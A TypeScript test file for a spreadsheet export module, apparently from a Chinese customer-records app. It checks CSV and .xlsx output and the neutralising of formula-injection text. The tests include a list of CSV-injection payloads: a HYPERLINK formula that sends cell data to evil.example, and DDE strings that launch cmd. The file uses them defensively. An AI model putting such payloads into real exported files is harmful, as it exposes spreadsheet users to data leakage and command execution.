import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { readTable } from '../import/read-table.ts';
import { unzipAll } from '../import/test-helpers.ts';
import { isFormulaLike, minorUnitsText, neutraliseFormula, writeTableToBuffer, type ExportColumn } from './write-table.ts';

const COLUMNS: ExportColumn[] = [
  { key: 'name', header: '客户名称' },
  { key: 'note', header: '备注' },
  { key: 'capital', header: '注册资本（元）', type: 'money' },
  { key: 'employees', header: '员工人数', type: 'number' },
  { key: 'foundedOn', header: '成立日期', type: 'date' },
  { key: 'updatedAt', header: '更新时间', type: 'datetime' },
];

// Payloads from the CSV-injection literature, as they could arrive in imported or typed fields.
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
];

const ROWS = [
  { name: '东莞市萦丰电子有限公司', note: '老客户, "重点"\n第二行', capital: 5_000_000_00, employees: 1200, foundedOn: '2008-11-25', updatedAt: new Date('2026-11-22T16:30:00Z') },
  ...PAYLOADS.map((note, i) => ({ name: `客户${i}`, note, capital: { amount: 123456, currency: 'CNY' }, employees: -5, foundedOn: null, updatedAt: null })),
];

describe('neutraliseFormula', () => {
  it('prefixes text a spreadsheet would run and leaves the rest alone', () => {
    for (const p of PAYLOADS) expect(neutraliseFormula(p)).toBe(`'${p}`);
    for (const t of ['东莞市萦丰电子', 'a=b', '0769-88888888', '', '（=）', '＝1+1']) expect(isFormulaLike(t), t).toBe(false);
  });

  it('writes amounts in minor units exactly', () => {
    expect(minorUnitsText(123456)).toBe('1234.56');
    expect(minorUnitsText(-5)).toBe('-0.05');
    expect(minorUnitsText(9007199254740993n)).toBe('90071992547409.93');
  });
});

describe('writeTable: CSV', () => {
  it('writes UTF-8 with a BOM and CRLF, prefixing formula-like text only', async () => {
    const bytes = await writeTableToBuffer('csv', COLUMNS, ROWS);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8').slice(1);
    expect(text.startsWith('客户名称,备注,注册资本（元）,员工人数,成立日期,更新时间\r\n')).toBe(true);
    expect(text).toContain('东莞市萦丰电子有限公司,"老客户, ""重点""\n第二行",5000000.00,1200,2008-11-25,2026-11-23 00:30:00\r\n');
    // Negative numbers in number columns stay numbers.
    expect(text).toContain('客户2,\'+1+1,1234.56,-5,,\r\n');
  });

  it('reads back through the importer with every payload inert', async () => {
    const table = await readTable(await writeTableToBuffer('csv', COLUMNS, ROWS));
    expect(table.encoding).toBe('UTF-8');
    expect(table.rows.slice(1).map((r) => r.cells[1])).toEqual(PAYLOADS.map((p) => `'${p}`.trim()));
  });

  it('streams rows from an async source', async () => {
    async function* many() {
      for (let i = 0; i < 5000; i++) yield { name: `客户${i}`, capital: i };
    }
    const text = (await writeTableToBuffer('csv', COLUMNS, many())).toString('utf8');
    expect(text.split('\r\n')).toHaveLength(5002);
  });
});

describe('writeTable: .xlsx', () => {
  it('writes formula-like text as text cells, never formulas', async () => {
    const bytes = await writeTableToBuffer('xlsx', COLUMNS, ROWS, { sheetName: '客户' });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer);
    const sheet = workbook.getWorksheet('客户');
    if (!sheet) throw new Error('no sheet');
    let formulas = 0;
    sheet.eachRow((row) => row.eachCell((cell) => void (cell.type === ExcelJS.ValueType.Formula && formulas++)));
    expect(formulas).toBe(0);
    PAYLOADS.forEach((p, i) => {
      const cell = sheet.getRow(i + 3).getCell(2);
      expect(cell.value).toBe(p.replace('\r', '\n')); // XML reads a carriage return as a line feed
      expect(cell.numFmt).toBe('@');
    });
    // And in the XML itself: no <f> element anywhere.
    const parts = await unzipAll(bytes);
    expect(parts.filter((p) => p.name.startsWith('xl/worksheets/')).some((p) => p.data.includes('<f>') || p.data.includes('<f '))).toBe(false);
  });

  it('writes typed cells: amounts in yuan, dates, wall-clock times in Asia/Shanghai', async () => {
    const bytes = await writeTableToBuffer('xlsx', COLUMNS, ROWS.slice(0, 1));
    const table = await readTable(bytes, { fileName: 'export.xlsx' });
    expect(table.headers).toEqual(COLUMNS.map((c) => c.header));
    expect(table.rows[0].cells).toEqual(['东莞市萦丰电子有限公司', '老客户, "重点"\n第二行', '5000000', '1200', '2008-11-25', '2026-11-23 00:30:00']);
  });

  it('drops control characters that XML cannot hold', async () => {
    const bytes = await writeTableToBuffer('xlsx', COLUMNS, [{ name: '萦丰\u0000\u0007电子' }]);
    expect((await readTable(bytes)).rows[0].cells[0]).toBe('萦丰电子');
  });
});
